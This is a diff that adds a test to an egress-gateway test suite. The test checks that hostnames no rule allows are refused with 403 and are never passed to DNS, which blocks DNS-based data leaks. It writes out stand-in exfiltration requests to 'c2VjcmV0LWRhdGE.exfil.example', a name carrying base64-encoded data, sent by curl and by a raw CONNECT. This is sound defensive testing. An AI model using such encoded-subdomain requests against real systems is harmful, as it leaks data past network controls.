@@ -203,3 +203,15 @@ def test_metrics_count_decisions(gateway):
     assert 'airlock_decisions_total{decision="allow",reason="allowed"}' in text
     assert 'airlock_decisions_total{decision="deny",reason="host_not_allowed"}' in text
     assert "airlock_active_sessions 1" in text
+
+
+def test_denied_names_are_never_resolved(gateway, dns):
+    """The first decision is on the name: a name no rule allows never reaches the resolver, so
+    the gateway cannot be used to leak data through DNS queries."""
+    gateway.session()
+    dns.queries.clear()
+    secret = "c2VjcmV0LWRhdGE.exfil.example"
+    assert curl(f"http://{secret}/")[0] == 403
+    assert raw_request(f"CONNECT {secret}:443 HTTP/1.1\r\nHost: {secret}:443\r\n\r\n"
+                       .encode()).startswith(b"HTTP/1.1 403 ")
+    assert all(secret not in name for name, _ in dns.queries), dns.queries
